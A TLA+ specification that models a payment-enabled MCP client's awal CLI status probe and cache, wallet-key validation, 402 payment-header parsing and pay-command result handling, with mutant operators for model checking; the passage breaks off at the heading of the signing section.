---- MODULE Spec2Model ----
(***************************************************************************)
(* Payment-aware fetch of the nullpath MCP client: backend selection       *)
(* (wallet.ts getPaymentConfig), the awal status probe and its cache       *)
(* (awal.ts checkAwalStatus / clearAwalCache), the awal pay invocation     *)
(* (awal.ts awalPay) and the 402 retry protocol (payment.ts                *)
(* fetchWithPayment, handleAwalPayment, handleDirectPayment).              *)
(*                                                                         *)
(* Every await on real I/O (execFile, fetch, signTypedData) is a           *)
(* suspension point: the code before it and the code after it are separate *)
(* actions, and calls of different callers interleave at these points.     *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    env,                  \* process.env: NULLPATH_USE_AWAL, NULLPATH_WALLET_KEY
    now,                  \* Date.now(), milliseconds
    awalStatusCache,      \* awal.ts: let awalStatusCache
    awalStatusCacheTime,  \* awal.ts: let awalStatusCacheTime
    call,                 \* per caller: the fetchWithPayment invocation in progress
    calls,                \* number of fetchWithPayment invocations started
    ticks,                \* number of clock advances
    nonces,               \* number of generateNonce() draws so far
    probeLog,             \* history: when the last probe completed, cleared since?
    check,                \* concurrent callers of checkAwalStatus
    pay,                  \* a direct awalPay(url, options) invocation
    parse,                \* a direct parsePaymentRequired(response) invocation
    sign,                 \* a direct signPayment / encodePaymentHeader invocation
    fmt,                  \* a direct formatUsdcAmount(atomic) invocation
    tool,                 \* a tool call of the MCP server (index.ts)
    keyRuns               \* two runs of the payment flow that differ in the key

vars == <<env, now, awalStatusCache, awalStatusCacheTime, call, calls, ticks,
          nonces, probeLog, check, pay, parse,
                   sign, fmt, tool, keyRuns>>

-----------------------------------------------------------------------------
(* Bounds of the model *)

MaxCalls == 2
MaxChecks == 2
MaxTicks == 3
StartTime == 100000

\* Callers of fetchWithPayment
Procs == {"p1"}

\* Clock advances: half the TTL of the status cache, so that two advances
\* complete it exactly.
TickSteps == {30000}

-----------------------------------------------------------------------------
(* awal.ts: status cache and probe *)

CACHE_TTL_MS == 60000

NoStatus == [available |-> FALSE, authenticated |-> FALSE,
             address |-> "", error |-> "", set |-> FALSE]

Status(av, au, addr, err) ==
    [available |-> av, authenticated |-> au, address |-> addr, error |-> err,
     set |-> TRUE]

\* Values of NULLPATH_USE_AWAL ("" stands for unset)
UseAwalValues == {"", "true", "1", "false"}

\* Mutant: only 'true' forces awal
isAwalForced_OnlyTrue(e) == e.useAwal = "true"

isAwalForced(e) == e.useAwal = "true" \/ e.useAwal = "1"

\* What the execFile('npx', ['awal@latest','status','--json']) call can do.
\*   ok_auth      exit 0, stdout {"authenticated": true, "address": ...}
\*   ok_loggedin  exit 0, stdout {"loggedIn": true, "walletAddress": ...}
\*   ok_unauth    exit 0, stdout {"authenticated": false}
\*   bad_json     exit 0, stdout is not JSON (JSON.parse throws)
\*   not_found    rejected, message contains 'not found' / 'ENOENT'
\*   timeout      rejected, message contains 'timeout'
\*   exit_nonzero rejected, any other message
ProbeOutcomes == {"ok_auth", "ok_loggedin", "ok_unauth", "bad_json",
                  "not_found", "timeout", "exit_nonzero"}

ProbeFailures == {"bad_json", "not_found", "timeout", "exit_nonzero"}

AwalAddress == "0xAWAL"

\* Mutant: a probe that times out is rethrown to the caller
ProbeResult_RethrowTimeout(out) ==
    CASE out \in {"ok_auth", "ok_loggedin"} ->
             [threw |-> FALSE, status |-> Status(TRUE, TRUE, AwalAddress, "")]
      [] out = "ok_unauth" -> [threw |-> FALSE, status |-> Status(TRUE, FALSE, "", "")]
      [] out = "timeout"   -> [threw |-> TRUE, status |-> NoStatus]
      [] OTHER             -> [threw |-> FALSE, status |-> Status(FALSE, FALSE, "", "Command failed")]

\* The status checkAwalStatus builds from the outcome of the probe, and
\* whether the call throws (threw).
ProbeResult(out) ==
    CASE out = "ok_auth"     -> [threw |-> FALSE, status |-> Status(TRUE, TRUE, AwalAddress, "")]
      [] out = "ok_loggedin" -> [threw |-> FALSE, status |-> Status(TRUE, TRUE, AwalAddress, "")]
      [] out = "ok_unauth"   -> [threw |-> FALSE, status |-> Status(TRUE, FALSE, "", "")]
      [] out = "not_found"   -> [threw |-> FALSE, status |-> Status(FALSE, FALSE, "", "awal CLI not found")]
      [] out = "timeout"     -> [threw |-> FALSE, status |-> Status(FALSE, FALSE, "", "awal CLI timeout")]
      [] out = "bad_json"    -> [threw |-> FALSE, status |-> Status(FALSE, FALSE, "", "Unexpected token")]
      [] OTHER               -> [threw |-> FALSE, status |-> Status(FALSE, FALSE, "", "Command failed")]

\* Mutant: an entry exactly CACHE_TTL_MS old still counts as fresh
CacheFresh_Inclusive(cache, cacheTime, t) ==
    cache.set /\ t - cacheTime <= CACHE_TTL_MS

\* if (awalStatusCache && Date.now() - awalStatusCacheTime < CACHE_TTL_MS)
CacheFresh(cache, cacheTime, t) ==
    cache.set /\ t - cacheTime < CACHE_TTL_MS

-----------------------------------------------------------------------------
(* Texts as sequences of characters, and errors *)

\* Characters String.prototype.trim removes
Blank == {" ", "\n", "\t"}

\* Text of a stream: a sequence of characters
RECURSIVE TrimStart(_)
TrimStart(s) == IF s # <<>> /\ Head(s) \in Blank THEN TrimStart(Tail(s)) ELSE s

RECURSIVE TrimEnd(_)
TrimEnd(s) ==
    IF s # <<>> /\ s[Len(s)] \in Blank THEN TrimEnd(SubSeq(s, 1, Len(s) - 1)) ELSE s

\* s.trim()
Trim(s) == TrimEnd(TrimStart(s))

\* s.substring(0, n)
Substring(s, n) == SubSeq(s, 1, IF Len(s) < n THEN Len(s) ELSE n)

\* n times the character ch
Rep(ch, n) == [i \in 1..n |-> ch]

HexDigits == <<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9", "a", "b", "c", "d", "e", "f">>

HexVal(ch) == (CHOOSE i \in 1..16 : HexDigits[i] = ch) - 1

\* The text 0x followed by the digits
Hex0x(digits) == <<"0", "x">> \o digits

\* An Error object: its class and what its message reports
JsError(class, message) == [class |-> class, message |-> message]

NoError == JsError("", "")

-----------------------------------------------------------------------------
(* wallet.ts: the wallet key, and backend selection *)

\* Values of NULLPATH_WALLET_KEY: unset, a well-formed key, a malformed
\* one, and the 32 zero bytes
WalletKeyValues == {"", "valid", "malformed", "zero"}

\* 64 hex digits
Hex64 == [i \in 1..64 |-> HexDigits[(i % 16) + 1]]

\* The characters of the values of NULLPATH_WALLET_KEY
KeyText(key) ==
    CASE key = ""          -> <<>>
      [] key = "valid"     -> Hex64
      [] key = "malformed" -> Hex0x(SubSeq(Hex64, 1, 10))
      [] key = "zero"      -> Rep("0", 64)
      [] OTHER             -> <<>>

isWalletConfigured(e) == e.walletKey # ""

WalletAddress == "0xWALLET"

\* NullpathWallet: its address, and the address of client.account
\* (NoAccount when the client carries no account)
NoAccount == "<no account>"

NullpathWallet(address, account) == [address |-> address, account |-> account]

NoWallet == NullpathWallet("", NoAccount)

\* The wallet createWallet() builds from a valid key (wallet.ts:124-137):
\* address is account.address
KeyWallet == NullpathWallet(WalletAddress, WalletAddress)

IsHex(ch) ==
    ch \in {"0", "1", "2", "3", "4", "5", "6", "7", "8", "9", "a", "b", "c", "d", "e", "f",
            "A", "B", "C", "D", "E", "F"}

\* The value of a hex digit of either case
HexValue(ch) ==
    CASE ch = "A" -> 10 [] ch = "B" -> 11 [] ch = "C" -> 12 [] ch = "D" -> 13
      [] ch = "E" -> 14 [] ch = "F" -> 15 [] OTHER -> HexVal(ch)

\* What normalizePrivateKey and createWallet come to: the key or the wallet,
\* or the error thrown
KeyOk(key) == [ok |-> TRUE, key |-> key, error |-> NoError, wallet |-> NoWallet]

KeyFail(error) == [ok |-> FALSE, key |-> <<>>, error |-> error, wallet |-> NoWallet]

\* trimmed.startsWith('0x')
StartsWith0x(text) == Len(text) >= 2 /\ text[1] = "0" /\ text[2] = "x"

\* normalizePrivateKey(key)
normalizePrivateKey(key) ==
    LET trimmed  == Trim(key)
        prefixed == IF StartsWith0x(trimmed) THEN trimmed ELSE Hex0x(trimmed)
    IN  IF Len(prefixed) # 66
        THEN KeyFail(JsError("InvalidPrivateKeyError", "length"))
        ELSE IF ~(\A i \in 3..66 : IsHex(prefixed[i]))
        THEN KeyFail(JsError("InvalidPrivateKeyError", "not_hex"))
        ELSE KeyOk(prefixed)

\* The order of the secp256k1 group, in hex digits
CurveOrder ==
    <<"f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f",
      "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "f", "e",
      "b", "a", "a", "e", "d", "c", "e", "6", "a", "f", "4", "8", "a", "0", "3", "b",
      "b", "f", "d", "2", "5", "e", "8", "c", "d", "0", "3", "6", "4", "1", "4", "1">>

\* A 32-byte scalar is a private key of the curve when it is at least 1 and
\* below the order of the group
ValidScalar(privateKey) ==
    LET differ == {i \in 1..64 : HexValue(privateKey[i + 2]) # HexValue(CurveOrder[i])}
        first  == CHOOSE i \in differ : \A j \in differ : i <= j
    IN  /\ \E i \in 1..64 : privateKey[i + 2] # "0"
        /\ differ # {}
        /\ HexValue(privateKey[first + 2]) < HexValue(CurveOrder[first])

\* privateKeyToAccount(privateKey) of viem: the account, or the error thrown
\* for a scalar that is no private key
privateKeyToAccount(privateKey) ==
    IF ValidScalar(privateKey)
    THEN [KeyOk(privateKey) EXCEPT !.wallet = KeyWallet]
    ELSE KeyFail(JsError("Error", "invalid_scalar"))

\* createWallet() of the key text rawKey (empty when the variable is unset)
CreateWalletOf(rawKey) ==
    IF rawKey = <<>>
    THEN KeyFail(JsError("WalletNotConfiguredError", "not_configured"))
    ELSE IF ~normalizePrivateKey(rawKey).ok
    THEN normalizePrivateKey(rawKey)
    ELSE privateKeyToAccount(normalizePrivateKey(rawKey).key)

\* Key texts: unset; 64 hex digits bare, prefixed, in blanks, in upper
\* case; 63 and 65 digits; a letter that is no hex digit; the prefix 0X;
\* blanks alone; the prefix alone; the scalars 0, 1, the group order less
\* one, the group order, and 2^256 - 1
WalletKeyTexts ==
    { <<>>, Hex64, Hex0x(Hex64), <<" ", "\t">> \o Hex0x(Hex64) \o <<"\n">>,
      <<" ">> \o Hex64 \o <<" ">>,
      [i \in 1..64 |-> IF i % 2 = 0 THEN "A" ELSE "F"],
      SubSeq(Hex64, 1, 63), Hex64 \o <<"0">>, Hex0x(SubSeq(Hex64, 1, 10)),
      [i \in 1..64 |-> IF i = 7 THEN "g" ELSE "1"],
      <<"0", "X">> \o Hex64, <<" ", " ">>, Hex0x(<<>>),
      Rep("0", 64), Hex0x(Rep("0", 64)),
      Rep("0", 63) \o <<"1">>,
      SubSeq(CurveOrder, 1, 63) \o <<"0">>,
      CurveOrder, Hex0x(Rep("f", 64)) }

\* createWallet() for every value of NULLPATH_WALLET_KEY
EnvWallets == [key \in WalletKeyValues |-> CreateWalletOf(KeyText(key))]

\* createWallet() from NULLPATH_WALLET_KEY
createWallet(e) == EnvWallets[e.walletKey]

\* getWalletAddress(): null when unset or when normalizePrivateKey or
\* privateKeyToAccount throws
getWalletAddress(e) ==
    IF createWallet(e).ok THEN createWallet(e).wallet.address ELSE ""

\* Mutant: the configured key is looked at before the force flag
getPaymentConfig_KeyFirst(e, awalStatus) ==
    IF awalStatus.available /\ awalStatus.authenticated
    THEN [method |-> "awal", address |-> awalStatus.address]
    ELSE IF isWalletConfigured(e)
    THEN [method |-> "direct", address |-> getWalletAddress(e)]
    ELSE [method |-> "none", address |-> ""]

\* getPaymentConfig() once checkAwalStatus has returned awalStatus
getPaymentConfig(e, awalStatus) ==
    IF awalStatus.available /\ awalStatus.authenticated
    THEN [method |-> "awal", address |-> awalStatus.address]
    ELSE IF isAwalForced(e)
    THEN [method |-> "none", address |-> ""]
    ELSE IF isWalletConfigured(e)
    THEN [method |-> "direct", address |-> getWalletAddress(e)]
    ELSE [method |-> "none", address |-> ""]

-----------------------------------------------------------------------------
(* Requests, header maps *)

\* options.method / options.body left out by the caller
Undefined == "<undefined>"

\* Header names are case-insensitive in a Headers instance, case-sensitive
\* in a plain object.
Lower(name) ==
    CASE name = "Content-Type" -> "content-type"
      [] name = "X-Custom"     -> "x-custom"
      [] name = "X-PAYMENT"    -> "x-payment"
      [] OTHER                 -> name

EmptyHeaders == [n \in {} |-> ""]

\* Headers.prototype.set(name, value)
HeadersSet(h, name, value) ==
    [n \in DOMAIN h \cup {Lower(name)} |-> IF n = Lower(name) THEN value ELSE h[n]]

RECURSIVE HeadersSetAll(_, _)
HeadersSetAll(h, entries) ==
    IF entries = <<>> THEN h
    ELSE HeadersSetAll(HeadersSet(h, Head(entries)[1], Head(entries)[2]), Tail(entries))

\* buildHeaders(base, extra): new Headers(base), then headers.set for every
\* entry of extra.  base and extra are sequences of <<name, value>>.
buildHeaders(base, extra) ==
    HeadersSetAll(HeadersSetAll(EmptyHeaders, base), extra)

\* fetch(url, {...options, headers}): the options of the callers carry no
\* signal, and the code adds none
Request(url, options, headers) ==
    [url |-> url, method |-> options.method, body |-> options.body,
     headers |-> headers, signal |-> Undefined]

-----------------------------------------------------------------------------
(* awal.ts: awalPay argument vector *)

RECURSIVE HeaderArgs(_)
HeaderArgs(entries) ==
    IF entries = <<>> THEN <<>>
    ELSE <<"-H", Head(entries)[1] \o ": " \o Head(entries)[2]>>
         \o HeaderArgs(Tail(entries))

\* Mutant: -X is passed for every method, GET included
AwalPayArgs_AlwaysMethod(url, options) ==
    LET method == IF options.method = Undefined THEN "GET" ELSE options.method
        body   == IF options.body = Undefined THEN "" ELSE options.body
    IN  <<"awal@latest", "x402", "pay", url, "-X", method>>
        \o (IF body # "" THEN <<"-d", body>> ELSE <<>>)
        \o HeaderArgs(options.headers)
        \o <<"--json">>

\* const { method = 'GET', body, headers } = options; args = [...]
AwalPayArgs(url, options) ==
    LET method == IF options.method = Undefined THEN "GET" ELSE options.method
        body   == IF options.body = Undefined THEN "" ELSE options.body
    IN  <<"awal@latest", "x402", "pay", url>>
        \o (IF method # "GET" THEN <<"-X", method>> ELSE <<>>)
        \o (IF body # "" THEN <<"-d", body>> ELSE <<>>)
        \o HeaderArgs(options.headers)
        \o <<"--json">>

\* execFileAsync(file, args, ...): a process spawned from an argument
\* vector, no shell in between.
ExecFile(file, args, timeout) ==
    [file |-> file, args |-> args, shell |-> FALSE, timeout |-> timeout]

AwalPayExec(url, options) == ExecFile("npx", AwalPayArgs(url, options), 60000)

AwalStatusExec == ExecFile("npx", <<"awal@latest", "status", "--json">>, 15000)

-----------------------------------------------------------------------------
(* payment.ts: requirements of a 402 response *)

EXPECTED_NETWORK == 8453

USDC_ADDRESS_BASE == "0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913"

\* String.prototype.toLowerCase on the addresses of the model
AddrLower(a) ==
    CASE a = "0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913"
              -> "0x833589fcd6edb6e08f4c7c32d4f71b54bda02913"
      [] a = "0x833589FCD6EDB6E08F4C7C32D4F71B54BDA02913"
              -> "0x833589fcd6edb6e08f4c7c32d4f71b54bda02913"
      [] a = "0xWALLET" -> "0xwallet"
      [] OTHER -> a

\* Integers beyond the machine word are kept as two limbs: the value is
\* h * Limb + v with 0 <= v < Limb when h > 0.
Limb == 1073741824

\* 2^53 is TwoTo23 * Limb: up to it every integer is a double
TwoTo23 == 8388608

\* A bigint
Big(h, v) == [h |-> h, v |-> v]

\* A member of the JSON text: absent, a number, or a string of decimal
\* digits; h and v are the limbs of the integer written in the text.
JAbsent  == [t |-> "absent", v |-> 0, h |-> 0]
JNum(n)  == [t |-> "num", v |-> n, h |-> 0]
JStr(n)  == [t |-> "str", v |-> n, h |-> 0]
JBigNum(h, v) == [t |-> "num", v |-> v, h |-> h]
JBigStr(h, v) == [t |-> "str", v |-> v, h |-> h]
\* The number n + 1/2, and a string that is no integer numeral
JFrac(n) == [t |-> "frac", v |-> n, h |-> 0]
JText    == [t |-> "text", v |-> 0, h |-> 0]

\* JSON.parse of a number: the nearest double, ties to the even mantissa.
\* Below 2^53 that is the integer itself; from 2^53 to 2^54 (the largest
\* the model writes) doubles are the even integers.
ToDouble(j) ==
    IF j.t # "num" \/ j.h < TwoTo23 \/ j.v % 2 = 0
    THEN j
    ELSE IF ((j.v - 1) \div 2) % 2 = 0
    THEN [j EXCEPT !.v = j.v - 1]
    ELSE IF j.v + 1 = Limb
    THEN [j EXCEPT !.v = 0, !.h = j.h + 1]
    ELSE [j EXCEPT !.v = j.v + 1]

\* JavaScript truthiness: undefined and 0 are falsy, a non-empty string is
\* truthy whatever it denotes.
Truthy(j) == j.t \in {"str", "text", "frac"} \/ (j.t = "num" /\ (j.v # 0 \/ j.h # 0))

\* a || b
OrElse(a, b) == IF Truthy(a) THEN a ELSE b

StrOr(a, b) == IF a # "" THEN a ELSE b

\* BigInt(x) of a double that is an integer, or of a string of digits
BigInt(j) == Big(j.h, j.v)

\* BigInt(x) throws RangeError for a number that is no integer and
\* SyntaxError for a string that is no integer numeral
BigIntThrows(j) == j.t \in {"frac", "text"}

\* The X-PAYMENT-REQUIRED header of a 402 response.  header: "none" when the
\* response carries no such header, "empty" when its value is empty, else
\* the name it was sent under; json: whether the base64 text decodes to
\* JSON; then the members of the decoded object.
Payload(header, json, recipient, payee, amount, maxAmount, asset, usdcAddress, network, chainId, validAfter, validBefore) ==
    [header |-> header, json |-> json, recipient |-> recipient, payee |-> payee,
     amount |-> amount, maxAmountRequired |-> maxAmount, asset |-> asset,
     usdcAddress |-> usdcAddress, network |-> network, chainId |-> chainId,
     validAfter |-> validAfter, validBefore |-> validBefore]

NoPayload ==
    Payload("none", FALSE, "", "", JAbsent, JAbsent, "", "", JAbsent, JAbsent,
            JAbsent, JAbsent)

\* A Response as parsePaymentRequired reads it
Response(status, h) == [status |-> status, h |-> h]

NoRequirements ==
    [recipient |-> "", amount |-> Big(0, 0), asset |-> "", network |-> 0,
     validAfter |-> 0, validBefore |-> 0]

\* What parsePaymentRequired does: returns null, returns requirements, or
\* throws PaymentRequiredError with a message (error)
ParsedNull == [ok |-> FALSE, null |-> TRUE, error |-> "", req |-> NoRequirements]

ParseError(error) == [ok |-> FALSE, null |-> FALSE, error |-> error, req |-> NoRequirements]

Parsed(req) == [ok |-> TRUE, null |-> FALSE, error |-> "", req |-> req]

\* Mutant: a validBefore equal to the current second is let through
parsePaymentHeader_ExpiryAfterNow(h, nowS) ==
    LET recipient   == StrOr(h.recipient, h.payee)
        amount      == OrElse(ToDouble(h.amount), ToDouble(h.maxAmountRequired))
        validBefore == OrElse(ToDouble(h.validBefore), JNum(nowS + 300)).v
    IN  IF ~h.json
        THEN ParseError("malformed")
        ELSE IF validBefore < nowS
        THEN ParseError("expired")
        ELSE IF recipient = "" \/ ~Truthy(amount)
        THEN ParseError("missing_fields")
        ELSE Parsed([recipient |-> recipient, amount |-> BigInt(amount),
                     asset |-> StrOr(StrOr(h.asset, h.usdcAddress), USDC_ADDRESS_BASE),
                     network |-> OrElse(OrElse(ToDouble(h.network), ToDouble(h.chainId)),
                                        JNum(EXPECTED_NETWORK)).v,
                     validAfter |-> OrElse(ToDouble(h.validAfter), JNum(0)).v,
                     validBefore |-> validBefore])

\* parsePaymentHeader(header) at second nowS: every throw inside the try is
\* rethrown as PaymentRequiredError('Failed to parse payment requirements:
\* ...'); error is what follows the colon.  The members are read after
\* JSON.parse, numbers as doubles.
parsePaymentHeader(h, nowS) ==
    LET recipient   == StrOr(h.recipient, h.payee)
        amount      == OrElse(ToDouble(h.amount), ToDouble(h.maxAmountRequired))
        asset       == StrOr(h.asset, h.usdcAddress)
        network     == OrElse(OrElse(ToDouble(h.network), ToDouble(h.chainId)),
                              JNum(EXPECTED_NETWORK))
        validAfter  == OrElse(ToDouble(h.validAfter), JNum(0)).v
        validBefore == OrElse(ToDouble(h.validBefore), JNum(nowS + 300)).v
    IN  IF ~h.json
        THEN ParseError("malformed")
        ELSE IF validBefore <= nowS
        THEN ParseError("expired")
        ELSE IF recipient = "" \/ ~Truthy(amount)
        THEN ParseError("missing_fields")
        ELSE IF BigIntThrows(amount)
        THEN ParseError("not_integer")
        ELSE Parsed([recipient |-> recipient, amount |-> BigInt(amount),
                     asset |-> StrOr(asset, USDC_ADDRESS_BASE),
                     network |-> network.v,
                     validAfter |-> validAfter, validBefore |-> validBefore])

\* Mutant: a 402 without the header is answered with null
parsePaymentRequired_NullWithoutHeader(response, nowS) ==
    IF response.status # 402 \/ response.h.header \in {"none", "empty"}
    THEN ParsedNull
    ELSE parsePaymentHeader(response.h, nowS)

\* parsePaymentRequired(response): headers.get is case-insensitive, so the
\* legacy lookup finds nothing the first lookup missed.
parsePaymentRequired(response, nowS) ==
    IF response.status # 402
    THEN ParsedNull
    ELSE IF response.h.header \in {"none", "empty"}
    THEN ParseError("header_missing")
    ELSE parsePaymentHeader(response.h, nowS)

\* Mutant: only the network is compared
RequirementsMismatch_NetworkOnly(req) ==
    req.network # EXPECTED_NETWORK

\* signPayment's check before any signing
RequirementsMismatch(req) ==
    req.network # EXPECTED_NETWORK
    \/ AddrLower(req.asset) # AddrLower(USDC_ADDRESS_BASE)

-----------------------------------------------------------------------------
(* awal.ts: what awalPay makes of the outcome of the pay command *)

\* JSON null as the value of a member
Null == "<null>"

\* JavaScript truthiness of a member that is absent, null or a string
JsTruthy(x) == x \notin {Undefined, Null, ""}

\* What JSON.parse makes of a text: a throw (invalid), null, or an object
\* with the members awalPay reads.  statusCode is absent, a number, or a
\* string; payTx is payment.transactionHash.
NotJson ==
    [kind |-> "invalid", error |-> Undefined, message |-> Undefined,
     statusCode |-> JAbsent, body |-> Undefined, data |-> Undefined,
     payTx |-> Undefined, txHash |-> Undefined]

JsonNull == [NotJson EXCEPT !.kind = "null"]

\* A number, a string or a boolean: every member read of it is undefined
JsonPrimitive == [NotJson EXCEPT !.kind = "primitive"]

JsonObject(error, message, statusCode, body, data, payTx, txHash) ==
    [kind |-> "object", error |-> error, message |-> message,
     statusCode |-> statusCode, body |-> body, data |-> data,
     payTx |-> payTx, txHash |-> txHash]

\* A stream of the process: its text and what JSON.parse makes of the
\* trimmed text
Stream(text, doc) == [text |-> text, doc |-> doc]

NoText == Stream(<<>>, NotJson)

\* The text of a JSON document; only its being non-blank matters
JsonText == <<" ", "{", "}", "\n">>

\* An outcome of execFileAsync('npx', args): exit "ok" resolves with stdout
\* and stderr, exit "fail" rejects (non-zero exit, timeout) with an Error
\* of message ExecMessage that carries stderr.
AwalOut(exit, stdout, stderr) == [exit |-> exit, stdout |-> stdout, stderr |-> stderr]

ExecMessage == "Command failed: npx awal@latest x402 pay"

\* statusCode of a result that has none
NoStatusCode == -1

WholePayload == "<payload>"

\* What awalPay returns
PayReturn(success, statusCode, error, errorText, body, transactionHash) ==
    [threw |-> FALSE, success |-> success, statusCode |-> statusCode,
     error |-> error, errorText |-> errorText, body |-> body,
     transactionHash |-> transactionHash, cause |-> FALSE, class |-> ""]

\* The AwalPaymentError awalPay throws: message error followed by errorText.
\* Both throws that leave awalPay are new AwalPaymentError(...): the one for
\* unparsable output, rethrown by the catch, and the one the catch ends in.
PayThrow(error, errorText, cause) ==
    [threw |-> TRUE, success |-> FALSE, statusCode |-> NoStatusCode,
     error |-> error, errorText |-> errorText, body |-> Undefined,
     transactionHash |-> Undefined, cause |-> cause, class |-> "AwalPaymentError"]

\* Mutant: unparsable output is reported as a failed payment, not thrown
AwalPayResult_NoThrowOnBadJson(out) ==
    PayReturn(FALSE, NoStatusCode, "Invalid JSON response from awal: ",
              Substring(out.stdout.text, 100), Undefined, Undefined)

\* Mutant: the status code of an error payload is dropped
AwalPayResult_ErrorWithoutStatus(out) ==
    IF out.exit = "ok" /\ out.stdout.doc.kind = "object"
    THEN IF JsTruthy(out.stdout.doc.error)
         THEN PayReturn(FALSE, NoStatusCode, out.stdout.doc.error, <<>>,
                        Undefined, Undefined)
         ELSE PayReturn(TRUE, 200, "", <<>>, WholePayload, Undefined)
    ELSE PayThrow("awal payment failed: " \o ExecMessage, <<>>, TRUE)

\* Mutant: a failed invocation is always thrown, stderr ignored
AwalPayResult_ThrowOnExecFailure(out) ==
    IF out.exit = "ok"
    THEN PayReturn(FALSE, NoStatusCode, "Empty response from awal", <<>>,
                   Undefined, Undefined)
    ELSE PayThrow("awal payment failed: " \o ExecMessage, <<>>, TRUE)

\* Mutant: the TypeError of reading a member of null leaves awalPay as it is
AwalPayResult_NullEscapes(out) ==
    IF out.exit = "ok" /\ Trim(out.stdout.text) # <<>> /\ out.stdout.doc.kind = "null"
    THEN [PayThrow("Cannot read properties of null", <<>>, FALSE)
            EXCEPT !.class = "TypeError"]
    ELSE IF out.exit = "ok" /\ out.stdout.doc.kind # "invalid"
    THEN PayReturn(TRUE, 200, "", <<>>, WholePayload, Undefined)
    ELSE PayThrow("awal payment failed: " \o ExecMessage, <<>>, TRUE)

\* awalPay from the outcome of execFileAsync on
AwalPayResult(out) ==
    LET so == out.stdout
        se == out.stderr
        d  == so.doc
        e  == se.doc
    IN  IF out.exit = "ok"
        THEN IF Trim(so.text) = <<>>
             THEN IF Trim(se.text) # <<>>
                  THEN PayReturn(FALSE, NoStatusCode, "", Trim(se.text),
                                 Undefined, Undefined)
                  ELSE PayReturn(FALSE, NoStatusCode, "Empty response from awal",
                                 <<>>, Undefined, Undefined)
             ELSE IF d.kind = "invalid"
             THEN PayThrow("Invalid JSON response from awal: ",
                           Substring(so.text, 100), FALSE)
             ELSE IF d.kind = "null"
             THEN PayThrow("awal payment failed: Cannot read properties of null",
                           <<>>, TRUE)
             ELSE IF JsTruthy(d.error)
             THEN PayReturn(FALSE,
                            IF d.statusCode.t = "num" THEN d.statusCode.v
                            ELSE NoStatusCode,
                            d.error, <<>>, Undefined, Undefined)
             ELSE PayReturn(TRUE,
                            IF d.statusCode.t = "num" THEN d.statusCode.v ELSE 200,
                            "", <<>>,
                            IF JsTruthy(d.body) THEN d.body
                            ELSE IF JsTruthy(d.data) THEN d.data
                            ELSE WholePayload,
                            IF d.payTx \notin {Undefined, Null} THEN d.payTx
                            ELSE IF d.txHash \notin {Undefined, Null} THEN d.txHash
                            ELSE Undefined)
        ELSE IF se.text # <<>>
             THEN IF e.kind \in {"object", "primitive"}
                  THEN IF JsTruthy(e.error)
                       THEN PayReturn(FALSE, NoStatusCode, e.error, <<>>,
                                      Undefined, Undefined)
                       ELSE IF JsTruthy(e.message)
                       THEN PayReturn(FALSE, NoStatusCode, e.message, <<>>,
                                      Undefined, Undefined)
                       ELSE PayReturn(FALSE, NoStatusCode, "", se.text,
                                      Undefined, Undefined)
                  ELSE IF Trim(se.text) # <<>>
                  THEN PayReturn(FALSE, NoStatusCode, "", Trim(se.text),
                                 Undefined, Undefined)
                  ELSE PayReturn(FALSE, NoStatusCode, ExecMessage, <<>>,
                                 Undefined, Undefined)
             ELSE PayThrow("awal payment failed: " \o ExecMessage, <<>>, TRUE)

\* awalPay has not returned
NoPayResult == PayReturn(FALSE, NoStatusCode, "", <<>>, Undefined, Undefined)

\* Standard output of the pay command: nothing, blanks, text that is not
\* JSON (short, and longer than 100 characters after a leading blank), null,
\* and objects
PayloadDocs ==
    { JsonObject(e, Undefined, sc, b, da, ptx, tx) :
        e \in {Undefined, Null, "", "Insufficient funds"},
        sc \in {JAbsent, JNum(200), JNum(204), JNum(402), JNum(500), JStr(402)},
        b \in {Undefined, "", "BODY"},
        da \in {Undefined, "DATA"},
        ptx \in {Undefined, "0xTX1"},
        tx \in {Undefined, "0xTX2"} }

BlankText == <<" ", "\n">>

ShortText == <<"o", "o", "p", "s", "\n">>

LongText == <<" ">> \o Rep("x", 120)

StdoutStreams ==
    { NoText, Stream(BlankText, NotJson), Stream(ShortText, NotJson),
      Stream(LongText, NotJson), Stream(JsonText, JsonNull),
      Stream(JsonText, JsonPrimitive) }
    \cup { Stream(JsonText, d) : d \in PayloadDocs }

ErrText == <<" ", "b", "o", "o", "m", "\n">>

ErrDoc(error, message) ==
    JsonObject(error, message, JAbsent, Undefined, Undefined, Undefined, Undefined)

\* Standard error: nothing, blanks, plain text, JSON with error and
\* message, with message only, with neither, and null
StderrStreams ==
    { NoText, Stream(BlankText, NotJson), Stream(ErrText, NotJson),
      Stream(JsonText, ErrDoc("denied", "failed")),
      Stream(JsonText, ErrDoc(Undefined, "failed")),
      Stream(JsonText, ErrDoc(Undefined, Undefined)),
      Stream(JsonText, JsonNull), Stream(JsonText, JsonPrimitive) }

\* Every outcome of the pay command awalPay is checked on
ExecOutcomes ==
    { AwalOut("ok", so, se) :
        so \in StdoutStreams,
        se \in {NoText, Stream(BlankText, NotJson), Stream(ErrText, NotJson)} }
    \cup { AwalOut("fail", NoText, se) : se \in StderrStreams }

PaidDoc(statusCode) ==
    JsonObject(Undefined, Undefined, statusCode, "BODY", Undefined, "0xTX1", Undefined)

\* The outcomes fetchWithPayment is checked on
AwalPayOutcomes ==
    { AwalOut("ok", Stream(JsonText, PaidDoc(JAbsent)), NoText),
      AwalOut("ok", Stream(JsonText, PaidDoc(JNum(200))), NoText),
      AwalOut("ok", Stream(JsonText, PaidDoc(JNum(204))), NoText),
      AwalOut("ok", Stream(JsonText, PaidDoc(JNum(402))), NoText),
      AwalOut("ok", Stream(JsonText, PaidDoc(JNum(500))), NoText),
      AwalOut("ok", Stream(JsonText, ErrDoc("Insufficient funds", Undefined)), NoText),
      AwalOut("ok", Stream(JsonText, JsonNull), NoText),
      AwalOut("ok", NoText, NoText),
      AwalOut("ok", NoText, Stream(ErrText, NotJson)),
      AwalOut("ok", Stream(ShortText, NotJson), NoText),
      AwalOut("fail", NoText, Stream(JsonText, ErrDoc("denied", "failed"))),
      AwalOut("fail", NoText, Stream(ErrText, NotJson)),
      AwalOut("fail", NoText, NoText) }

-----------------------------------------------------------------------------
(* eip3009.ts and payment.ts: the signing step *)

